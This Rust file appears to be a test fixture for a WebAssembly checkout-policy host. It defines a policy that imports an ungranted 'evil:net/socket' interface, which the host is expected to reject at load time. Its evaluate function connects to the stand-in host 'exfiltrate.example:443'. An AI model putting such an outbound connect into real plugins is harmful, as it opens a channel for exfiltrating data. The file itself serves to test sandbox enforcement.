//! A policy importing `evil:net/socket` besides the host interface: the host must refuse
//! it at load time and name the import. Built with wit-bindgen directly, since the SDK
//! cannot express it; wrapped by `raw-componentize`, since `policy-runner` refuses it.

#[allow(missing_docs, clippy::all)]
mod bindings {
    wit_bindgen::generate!({
        world: "evil:net/ungranted-import",
        path: ["../../../wit", "wit"],
        generate_all,
    });
}

use bindings::stripe_discount::policy::types::{CheckoutSession, Decision, PolicyRequest};

/// The policy.
pub struct Ungranted;

impl bindings::Guest for Ungranted {
    fn evaluate(_session: CheckoutSession, _request: PolicyRequest) -> Decision {
        let handle = bindings::evil::net::socket::connect("exfiltrate.example:443");
        Decision::Reject(format!("socket {handle}"))
    }
}

#[cfg(target_arch = "wasm32")]
bindings::export!(Ungranted with_types_in bindings);
